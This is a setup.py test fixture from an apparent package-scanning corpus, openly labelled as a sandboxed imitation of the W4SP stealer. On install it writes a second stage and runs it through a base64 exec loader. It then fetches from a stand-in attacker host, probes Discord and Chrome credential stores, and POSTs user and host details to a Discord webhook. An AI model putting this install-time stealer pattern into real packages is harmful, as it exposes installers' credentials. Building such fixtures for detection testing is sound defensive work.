# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# The technique of the W4SP stealer packages on PyPI (Oct-Nov 2022),
# rewritten from the public analyses: setup.py hides a loader behind
# `__import__('builtins').exec(__import__('base64').b64decode(...))`. Here:
#
# 1. setup.py writes the second stage, ~/.config/pkgtrace-w4sp/update.py;
# 2. runs `python -c "__import__('builtins').exec(__import__('base64').b64decode('...'))"`,
#    whose decoded loader starts `python ~/.config/pkgtrace-w4sp/update.py`;
# 3. the second stage fetches its "module" from
#    https://w4sp-panel.exfil-test.example/inject/stage3 (not run), looks into
#    the Discord leveldb folders and Chrome's Login Data and Local State, and
#    4. POSTs what it found with the user and host names to a Discord webhook.
#
# The first time setup.py runs in an install (pip runs it more than once: a
# file in /tmp says it already ran). pip hides setup.py's output, so each
# stage writes its `mal-w4sp-stage2: step N ...` lines to
# /tmp/mal-w4sp-stage2.log, and the last step writes /tmp/mal-w4sp-stage2.done.
# An alarm ends the chain after 6 s; no error stops the install.
import base64
import os
import signal
import subprocess
import sys

from setuptools import setup

ONCE = "/tmp/.pkgtrace-mal-w4sp-stage2.ran"
STAGE2 = os.path.join(os.path.expanduser("~"), ".config", "pkgtrace-w4sp", "update.py")

STAGE2_SOURCE = r'''
import getpass, json, os, socket, urllib.request
LOG, DONE = "/tmp/mal-w4sp-stage2.log", "/tmp/mal-w4sp-stage2.done"
def say(msg):
    with open(LOG, "a") as f:
        f.write(f"mal-w4sp-stage2: {msg}\n")
home = os.path.expanduser("~")
try:
    with urllib.request.urlopen("https://w4sp-panel.exfil-test.example/inject/stage3", timeout=2) as r:
        say(f"step 3 GET https://w4sp-panel.exfil-test.example/inject/stage3: status {r.status}, {len(r.read())} bytes")
except Exception as e:
    say(f"step 3 GET failed: {e!r}")
found = {}
for rel in (".config/discord/Local Storage/leveldb", ".config/discordcanary/Local Storage/leveldb",
            ".config/google-chrome/Default/Login Data", ".config/google-chrome/Local State"):
    p = os.path.join(home, rel)
    try:
        if os.path.isdir(p):
            found[rel] = os.listdir(p)
        else:
            with open(p, "rb") as f:
                found[rel] = len(f.read())
    except OSError as e:
        found[rel] = e.strerror
say(f"step 4 searched {len(found)} stores")
body = json.dumps({"content": f"{getpass.getuser()}@{socket.gethostname()}", "stores": found}).encode()
req = urllib.request.Request("https://discord.com/api/webhooks/000000000000000000/pkgtrace-w4sp-test",
                             data=body, headers={"Content-Type": "application/json"}, method="POST")
try:
    with urllib.request.urlopen(req, timeout=2) as r:
        say(f"step 5 POST to the Discord webhook: status {r.status}")
except Exception as e:
    say(f"step 5 POST failed: {e!r}")
with open(DONE, "w") as f:
    f.write("done\n")
'''

LOADER = f"import subprocess, sys; subprocess.run([sys.executable, {STAGE2!r}], timeout=4)"


def _say(msg):
    with open("/tmp/mal-w4sp-stage2.log", "a") as f:
        f.write(f"mal-w4sp-stage2: {msg}\n")


class _Deadline(Exception):
    pass


def _on_alarm(signum, frame):
    raise _Deadline()


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _chain():
    os.makedirs(os.path.dirname(STAGE2), exist_ok=True)
    with open(STAGE2, "w") as f:
        f.write(STAGE2_SOURCE)
    _say(f"step 1 wrote {STAGE2}")
    blob = base64.b64encode(LOADER.encode()).decode()
    code = f"__import__('builtins').exec(__import__('base64').b64decode('{blob}'))"
    rc = subprocess.run([sys.executable, "-c", code], timeout=5).returncode
    _say(f"step 2 python -c exec(b64decode(...)) ended: exit {rc}")


if _first_run():
    old = signal.signal(signal.SIGALRM, _on_alarm)
    signal.alarm(6)
    try:
        _chain()
    except BaseException as e:  # the alarm, or anything else: never stop the install
        _say(f"stopped: {e!r}")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)

setup(
    name="pkgtrace-test-mal-w4sp-stage2",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - W4SP-style setup.py: writes a second stage to ~/.config and runs it through python -c exec(base64)",
    packages=["pkgtrace_mal_w4sp_stage2"],
)
